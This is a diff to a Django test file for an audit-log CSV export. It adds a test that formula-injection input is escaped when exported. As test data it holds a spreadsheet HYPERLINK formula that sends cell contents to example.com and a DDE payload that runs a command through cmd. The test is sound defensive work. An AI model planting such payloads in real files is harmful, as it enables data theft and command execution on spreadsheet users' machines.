@@ -156,11 +156,28 @@ def test_exporting_the_log_is_itself_logged(client: Any, users: dict[str, Any]) 
     response = client.get(reverse("audit:log_export"), {"action": "sign_in"}, **FROM)
     assert response.status_code == 200
     body = b"".join(response.streaming_content).decode("utf-8-sig")
-    assert body.splitlines()[0].startswith("Thời điểm,Hành động")
+    assert body.splitlines()[0].startswith('"Thời điểm","Hành động"')
     assert "Đăng nhập" in body
     event = last(A.EXPORT)
     assert event.actor == users["staff"] and event.ip_address == "203.0.113.7"
     assert '"action": "sign_in"' in event.detail
+
+
+def test_the_exported_log_keeps_typed_names_and_browsers_from_running_as_formulas(client: Any, users: dict[str, Any]) -> None:
+    import csv
+    import io
+
+    name = '=HYPERLINK("http://example.com/?"&A1,"Mở")'
+    agent = "=cmd|' /C calc'!A0"
+    client.post(reverse("accounts:login"), {"username": name, "password": "x"}, REMOTE_ADDR="203.0.113.9", HTTP_USER_AGENT=agent)
+    assert last(A.SIGN_IN_FAILED).detail == name  # the log itself keeps what was typed
+    client.force_login(users["staff"])
+    body = b"".join(client.get(reverse("audit:log_export"), {"action": "sign_in_failed"}).streaming_content)
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    row = next(r for r in rows if r[-2] == "203.0.113.9")
+    assert row[5] == "'" + name and row[7] == "'" + agent
+    cells = [cell for r in rows for cell in r]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
 
 
 def test_outside_a_request_the_actor_is_given_or_empty(users: dict[str, Any]) -> None:
